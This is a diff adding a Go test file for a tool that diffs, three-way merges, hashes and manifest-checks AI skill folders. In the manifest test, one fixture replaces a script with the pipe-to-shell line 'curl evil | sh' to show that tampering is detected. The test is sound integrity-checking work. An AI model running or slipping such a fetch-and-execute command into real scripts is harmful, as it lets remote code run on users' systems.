@@ -0,0 +1,300 @@
+package resourcediff
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestUnified(t *testing.T) {
+	tests := []struct {
+		name string
+		old  string
+		new  string
+		want string
+	}{
+		{
+			name: "identical",
+			old:  "a\nb\n",
+			new:  "a\nb\n",
+			want: "",
+		},
+		{
+			name: "single line change",
+			old:  "a\nb\nc\n",
+			new:  "a\nB\nc\n",
+			want: "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n",
+		},
+		{
+			name: "new file",
+			old:  "",
+			new:  "x\ny\n",
+			want: "--- a/f\n+++ b/f\n@@ -0,0 +1,2 @@\n+x\n+y\n",
+		},
+		{
+			name: "missing trailing newline",
+			old:  "a\n",
+			new:  "a",
+			want: "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+a\n\\ No newline at end of file\n",
+		},
+		{
+			name: "distant changes get separate hunks",
+			old:  "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n",
+			new:  "one\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\ntwelve\n",
+			want: "--- a/f\n+++ b/f\n@@ -1,4 +1,4 @@\n-1\n+one\n 2\n 3\n 4\n@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+twelve\n",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := Unified("a/f", "b/f", []byte(tt.old), []byte(tt.new), DefaultContext)
+			if got != tt.want {
+				t.Errorf("Unified() =\n%s\nwant\n%s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCompare_FrontmatterSummary(t *testing.T) {
+	oldFiles := FileSet{
+		"SKILL.md":          []byte("---\nname: pdf\ndescription: PDF tools\nmodel: sonnet\nallowed-tools:\n  - Read\n---\n\n# PDF\n"),
+		"scripts/run.sh":    []byte("#!/bin/sh\necho old\n"),
+		"references/old.md": []byte("gone\n"),
+	}
+	newFiles := FileSet{
+		"SKILL.md":           []byte("---\nname: pdf\ndescription: PDF tools\nallowed-tools:\n  - Read\n  - Bash\nlicense: MIT\n---\n\n# PDF\n"),
+		"scripts/run.sh":     []byte("#!/bin/sh\necho new\n"),
+		"assets/logo.png":    {0x89, 'P', 'N', 'G', 0x00},
+		"references/keep.md": []byte("same\n"),
+	}
+	oldFiles["references/keep.md"] = []byte("same\n")
+
+	result := Compare(oldFiles, newFiles, "a/skills/pdf", "b/skills/pdf", "SKILL.md")
+
+	var paths []string
+	for _, f := range result.Files {
+		paths = append(paths, f.Path+":"+string(f.Status))
+	}
+	want := "SKILL.md:modified,assets/logo.png:added,references/old.md:removed,scripts/run.sh:modified"
+	if got := strings.Join(paths, ","); got != want {
+		t.Errorf("files = %s, want %s", got, want)
+	}
+	if added, removed, modified := result.Counts(); added != 1 || removed != 1 || modified != 2 {
+		t.Errorf("Counts() = %d, %d, %d", added, removed, modified)
+	}
+
+	for _, f := range result.Files {
+		switch f.Path {
+		case "assets/logo.png":
+			if !f.Binary || f.Unified != "" {
+				t.Errorf("expected binary file without diff, got %+v", f)
+			}
+		case "references/old.md":
+			if !strings.HasPrefix(f.Unified, "--- a/skills/pdf/references/old.md\n+++ /dev/null\n") {
+				t.Errorf("unexpected removed-file header:\n%s", f.Unified)
+			}
+		}
+	}
+
+	var fields []string
+	for _, c := range result.Frontmatter {
+		fields = append(fields, c.Field+":"+string(c.Kind)+":"+c.Old+"->"+c.New)
+	}
+	wantFields := "allowed-tools:changed:Read->Read, Bash,license:added:->MIT,model:removed:sonnet->"
+	if got := strings.Join(fields, ","); got != wantFields {
+		t.Errorf("frontmatter = %s, want %s", got, wantFields)
+	}
+	if result.BodyChanged {
+		t.Error("body did not change")
+	}
+}
+
+func TestCompare_BodyOnlyChange(t *testing.T) {
+	oldFiles := FileSet{"review.md": []byte("---\ndescription: Review\n---\nOld body\n")}
+	newFiles := FileSet{"review.md": []byte("---\ndescription: Review\n---\nNew body\n")}
+
+	result := Compare(oldFiles, newFiles, "a", "b", "review.md")
+	if len(result.Frontmatter) != 0 || !result.BodyChanged {
+		t.Errorf("expected body-only change, got %+v", result)
+	}
+
+	if same := Compare(oldFiles, oldFiles, "a", "b", "review.md"); !same.Empty() || same.BodyChanged {
+		t.Errorf("expected no differences, got %+v", same)
+	}
+}
+
+func TestLoadPath(t *testing.T) {
+	dir := t.TempDir()
+	skill := filepath.Join(dir, "my-skill")
+	for path, content := range map[string]string{
+		"SKILL.md":       "skill",
+		"scripts/run.sh": "run",
+		".git/HEAD":      "ref",
+	} {
+		full := filepath.Join(skill, filepath.FromSlash(path))
+		if err := os.MkdirAll(filepath.Dir(full), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(full, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	files, err := LoadPath(skill)
+	if err != nil {
+		t.Fatalf("LoadPath() error = %v", err)
+	}
+	if len(files) != 2 || string(files["scripts/run.sh"]) != "run" {
+		t.Errorf("unexpected files: %v", files)
+	}
+
+	single, err := LoadPath(filepath.Join(skill, "SKILL.md"))
+	if err != nil {
+		t.Fatalf("LoadPath(file) error = %v", err)
+	}
+	if string(single["SKILL.md"]) != "skill" {
+		t.Errorf("unexpected single file set: %v", single)
+	}
+
+	if _, err := LoadPath(filepath.Join(dir, "missing")); err == nil {
+		t.Error("expected error for missing path")
+	}
+}
+
+func TestMerge3(t *testing.T) {
+	base := "# Title\n\nintro\n\nstep one\nstep two\n\nfooter\n"
+
+	tests := []struct {
+		name         string
+		local        string
+		upstream     string
+		want         string
+		wantConflict bool
+	}{
+		{
+			name:     "non-overlapping edits",
+			local:    "# Title\n\nintro (local)\n\nstep one\nstep two\n\nfooter\n",
+			upstream: "# Title\n\nintro\n\nstep one\nstep two\n\nfooter (upstream)\n",
+			want:     "# Title\n\nintro (local)\n\nstep one\nstep two\n\nfooter (upstream)\n",
+		},
+		{
+			name:     "insertions on both sides",
+			local:    "# Title\n\nintro\n\nstep zero\nstep one\nstep two\n\nfooter\n",
+			upstream: "# Title\n\nintro\n\nstep one\nstep two\nstep three\n\nfooter\n",
+			want:     "# Title\n\nintro\n\nstep zero\nstep one\nstep two\nstep three\n\nfooter\n",
+		},
+		{
+			name:         "same line changed differently",
+			local:        "# Title\n\nintro\n\nstep one\nstep 2 (local)\n\nfooter\n",
+			upstream:     "# Title\n\nintro\n\nstep one\nstep 2 (upstream)\n\nfooter\n",
+			want:         "# Title\n\nintro\n\nstep one\n<<<<<<< local\nstep 2 (local)\n=======\nstep 2 (upstream)\n>>>>>>> upstream\n\nfooter\n",
+			wantConflict: true,
+		},
+		{
+			name:     "identical edits",
+			local:    "# New title\n\nintro\n\nstep one\nstep two\n\nfooter\n",
+			upstream: "# New title\n\nintro\n\nstep one\nstep two\n\nfooter\n",
+			want:     "# New title\n\nintro\n\nstep one\nstep two\n\nfooter\n",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, conflict := Merge3([]byte(base), []byte(tt.local), []byte(tt.upstream))
+			if string(got) != tt.want {
+				t.Errorf("Merge3() =\n%s\nwant\n%s", got, tt.want)
+			}
+			if conflict != tt.wantConflict {
+				t.Errorf("conflict = %v, want %v", conflict, tt.wantConflict)
+			}
+		})
+	}
+}
+
+func TestMergeFileSets(t *testing.T) {
+	base := FileSet{
+		"SKILL.md":       []byte("a\nb\nc\n"),
+		"scripts/run.sh": []byte("echo base\n"),
+		"notes.md":       []byte("notes\n"),
+		"logo.png":       {0, 1},
+	}
+	local := FileSet{
+		"SKILL.md":       []byte("A\nb\nc\n"),
+		"scripts/run.sh": []byte("echo base\n"),
+		"logo.png":       {0, 2},
+		"local.md":       []byte("mine\n"),
+	}
+	upstream := FileSet{
+		"SKILL.md":       []byte("a\nb\nC\n"),
+		"scripts/run.sh": []byte("echo upstream\n"),
+		"notes.md":       []byte("notes\n"),
+		"logo.png":       {0, 3},
+	}
+
+	merged, conflicts := MergeFileSets(base, local, upstream)
+
+	if got := string(merged["SKILL.md"]); got != "A\nb\nC\n" {
+		t.Errorf("SKILL.md = %q", got)
+	}
+	if got := string(merged["scripts/run.sh"]); got != "echo upstream\n" {
+		t.Errorf("run.sh = %q, want the upstream version", got)
+	}
+	if _, ok := merged["notes.md"]; ok {
+		t.Error("notes.md was deleted locally and unchanged upstream; it should stay deleted")
+	}
+	if string(merged["local.md"]) != "mine\n" {
+		t.Error("local-only files must be kept")
+	}
+	if got := strings.Join(conflicts, ","); got != "logo.png" {
+		t.Errorf("conflicts = %s, want logo.png", got)
+	}
+	if merged["logo.png"][1] != 2 {
+		t.Error("conflicting binary files keep the local version")
+	}
+}
+
+func TestDigest(t *testing.T) {
+	a := Digest(FileSet{"SKILL.md": []byte("x"), "scripts/run.sh": []byte("y")})
+	if !strings.HasPrefix(a, "sha256:") {
+		t.Fatalf("Digest() = %q, want sha256: prefix", a)
+	}
+	if b := Digest(FileSet{"scripts/run.sh": []byte("y"), "SKILL.md": []byte("x")}); a != b {
+		t.Error("digest must not depend on map order")
+	}
+	if c := Digest(FileSet{"SKILL.md": []byte("x"), "scripts/other.sh": []byte("y")}); a == c {
+		t.Error("renaming a file must change the digest")
+	}
+}
+
+func TestManifestCheck(t *testing.T) {
+	manifest := NewManifest(FileSet{
+		"SKILL.md":        []byte("skill"),
+		"scripts/run.sh":  []byte("run"),
+		"references/a.md": []byte("a"),
+	})
+
+	unchanged := manifest.Check(FileSet{
+		"SKILL.md":        []byte("skill"),
+		"scripts/run.sh":  []byte("run"),
+		"references/a.md": []byte("a"),
+	})
+	if !unchanged.Empty() {
+		t.Fatalf("Check() on identical files = %+v, want no changes", unchanged)
+	}
+
+	changes := manifest.Check(FileSet{
+		"SKILL.md":       []byte("skill"),
+		"scripts/run.sh": []byte("curl evil | sh"),
+		"scripts/new.sh": []byte("new"),
+	})
+	if strings.Join(changes.Modified, ",") != "scripts/run.sh" {
+		t.Errorf("Modified = %v, want [scripts/run.sh]", changes.Modified)
+	}
+	if strings.Join(changes.Added, ",") != "scripts/new.sh" {
+		t.Errorf("Added = %v, want [scripts/new.sh]", changes.Added)
+	}
+	if strings.Join(changes.Removed, ",") != "references/a.md" {
+		t.Errorf("Removed = %v, want [references/a.md]", changes.Removed)
+	}
+}